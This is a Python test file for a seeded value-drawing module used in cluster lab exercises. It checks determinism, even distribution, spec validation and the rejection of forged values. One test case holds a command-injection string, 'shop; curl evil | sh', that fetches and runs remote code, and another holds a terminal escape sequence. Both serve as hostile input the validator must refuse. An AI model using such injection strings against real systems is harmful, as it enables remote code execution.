"""Values drawn for an attempt."""

from collections import Counter

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from clusterdojo.lab.values import (
    Between,
    Choose,
    Drawn,
    Sample,
    Source,
    ValueSpec,
    draw,
    seeds_for_each,
    why_not_drawn,
)

SPECS: dict[str, Choose | Between | Sample] = {
    "namespace": Choose(choose=["shop", "market", "store"]),
    "replicas": Between(between=(3, 5)),
    "nodes": Sample(sample=["a", "b", "c", "d"], count=2),
}


def test_a_seed_gives_the_same_values_for_ever() -> None:
    """What was drawn once is drawn again by every later version of the suite."""
    assert draw(SPECS, "demo", 7) == {
        "namespace": "shop",
        "replicas": 3,
        "nodes": ["a", "d"],
    }


def test_another_seed_or_lab_gives_other_values() -> None:
    """Nobody can learn a lab's answers by heart, or carry them to the next lab."""
    numbers: dict[str, Choose | Between | Sample] = {"number": Between(between=(1, 10**9))}
    seeds = {draw(numbers, "demo", seed)["number"] for seed in range(20)}
    labs = {draw(numbers, f"demo-{i}", 1)["number"] for i in range(20)}
    assert len(seeds) == len(labs) == 20


def test_a_new_name_changes_none_of_the_others() -> None:
    """An author may add a value without changing what earlier seeds gave."""
    before = draw(SPECS, "demo", 3)
    after = draw({"first": Choose(choose=["x", "y"]), **SPECS}, "demo", 3)
    assert {name: after[name] for name in before} == before


def test_every_value_is_drawn_about_equally_often() -> None:
    """No answer is a better guess than another."""
    drawn = Counter(draw(SPECS, "demo", seed)["replicas"] for seed in range(600))
    assert sorted(drawn) == [3, 4, 5]
    assert min(drawn.values()) > 150


@given(st.integers())
def test_a_sample_holds_different_values(seed: int) -> None:
    """Two nodes of one answer are never the same node."""
    nodes = draw(SPECS, "demo", seed)["nodes"]
    assert isinstance(nodes, list)
    assert len(set(nodes)) == 2


@given(st.text(), st.integers(1, 10**12))
def test_numbers_stay_below_their_bound(name: str, bound: int) -> None:
    """A source never gives an index outside the list."""
    source = Source(name)
    assert all(0 <= source.below(bound) < bound for _ in range(20))


def test_small_numbers_are_all_drawn() -> None:
    """No item of a short list is out of reach."""
    source = Source("any")
    assert {source.below(3) for _ in range(100)} == {0, 1, 2}


@pytest.mark.parametrize(
    ("spec", "content", "message"),
    [
        (Choose, {"choose": ["only"]}, "at least 2"),
        (Choose, {"choose": ["a", "a"]}, "twice"),
        (Choose, {"choose": [True, False]}, "choose"),
        (Between, {"between": [5, 3]}, "first bound must be below"),
        (Between, {"between": [3, 3]}, "first bound must be below"),
        (Sample, {"sample": ["a", "b"], "count": 3}, "only 2 values"),
        (Sample, {"sample": ["a", "b"], "count": 0}, "greater than or equal to 1"),
        (Sample, {"sample": ["a", "a"], "count": 2}, "twice"),
        (Choose, {"choose": ["a", "b"], "weights": [1, 2]}, "not permitted"),
    ],
)
def test_what_can_not_be_drawn_from_is_refused(
    spec: type[Choose | Between | Sample], content: dict[str, object], message: str
) -> None:
    """An author learns at once that there is nothing to choose, or that YAML read yes as true."""
    with pytest.raises(ValidationError, match=message):
        spec.model_validate(content)


def test_each_value_that_must_be_proven_has_a_seed() -> None:
    """The seeds tried anyway and the ones found draw all of them, and none is found in vain."""
    specs = {"fault": Choose(choose=["a", "b", "c", "d", "e"], prove="each"), **SPECS}
    found = seeds_for_each(specs, "demo", {1, 2})
    drawn = {seed: draw(specs, "demo", seed)["fault"] for seed in (1, 2, *found)}
    assert set(drawn.values()) == {"a", "b", "c", "d", "e"}
    assert {seed: f"fault={drawn[seed]}" for seed in found} == found
    assert len(found) == 5 - len({drawn[1], drawn[2]})


def test_one_seed_may_prove_two_values() -> None:
    """No cluster is started for what another one shows."""
    each = Choose(choose=["a", "b"], prove="each")
    assert len(seeds_for_each({"one": each, "two": each}, "demo", set())) <= 4
    assert seeds_for_each(SPECS, "demo", {1}) == {}


WORDS = st.lists(st.text(max_size=4), min_size=2, max_size=5, unique=True)


@st.composite
def specs(draw_from: st.DrawFn) -> dict[str, ValueSpec]:
    """What a lab.yaml may have under `values`."""
    low = draw_from(st.integers())
    words = draw_from(WORDS)
    return draw_from(
        st.fixed_dictionaries(
            {},
            optional={
                "word": st.builds(Choose, choose=st.just([*words, 1, 2])),
                "number": st.builds(Between, between=st.just((low, low + 3))),
                "some": st.builds(Sample, sample=st.just(words), count=st.integers(1, len(words))),
            },
        )
    )


@given(specs(), st.text(), st.integers())
def test_what_is_drawn_can_be_drawn(of: dict[str, ValueSpec], lab: str, seed: int) -> None:
    """No genuine attempt is taken for a forged one."""
    assert why_not_drawn(of, draw(of, lab, seed)) == ""


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=5,
)


@given(specs(), st.dictionaries(st.sampled_from(["word", "number", "some"]) | st.text(), JSON))
def test_what_can_be_drawn_is_within_the_specification(
    of: dict[str, ValueSpec], values: dict[str, object]
) -> None:
    """Whatever somebody writes: each name and each value is one of the lab's, of its very type."""
    if why_not_drawn(of, values):
        return
    assert values.keys() == of.keys()
    for name, value in values.items():
        spec = of[name]
        if isinstance(spec, Choose):
            assert repr(value) in map(repr, spec.choose)
        elif isinstance(spec, Between):
            assert repr(value) in map(repr, range(spec.between[0], spec.between[1] + 1))
        else:
            assert isinstance(value, list)
            assert set(value) <= set(spec.sample)


DRAWN: dict[str, Drawn] = {"namespace": "shop", "replicas": 3, "nodes": ["a", "d"]}


@pytest.mark.parametrize(
    ("changed", "why"),
    [
        ({"namespace": "shop; curl evil | sh"}, "namespace is not one"),
        ({"namespace": "shop\n"}, "namespace is not one"),
        ({"namespace": "Shop"}, "namespace is not one"),
        ({"namespace": ["shop"]}, "namespace is not one"),
        ({"namespace": {"shop": 1}}, "namespace is not one"),
        ({"namespace": None}, "namespace is not one"),
        ({"replicas": "3"}, "replicas is not one"),
        ({"replicas": 3.0}, "replicas is not one"),
        ({"replicas": 6}, "replicas is not one"),
        ({"replicas": True}, "replicas is not one"),
        ({"nodes": ["a"]}, "nodes is not one"),
        ({"nodes": ["a", "a"]}, "nodes is not one"),
        ({"nodes": ["a", "x"]}, "nodes is not one"),
        ({"nodes": ["a", ["d"]]}, "nodes is not one"),
        ({"nodes": "ad"}, "nodes is not one"),
        ({"\x1b[2J": "x"}, "a value that the lab does not draw"),
    ],
)
def test_what_no_seed_draws_is_told_without_repeating_it(
    changed: dict[str, object], why: str
) -> None:
    """The reason goes to terminals and pages, and the value may be anything."""
    assert why_not_drawn(SPECS, DRAWN) == ""
    told = why_not_drawn(SPECS, {**DRAWN, **changed})
    assert why in told
    assert told.isprintable()
    assert "evil" not in told


def test_a_value_that_is_missing_is_told() -> None:
    """A text would be rendered with a hole in it."""
    assert why_not_drawn(SPECS, {"namespace": "shop", "replicas": 3}) == (
        "it lacks the value nodes, which the lab draws"
    )
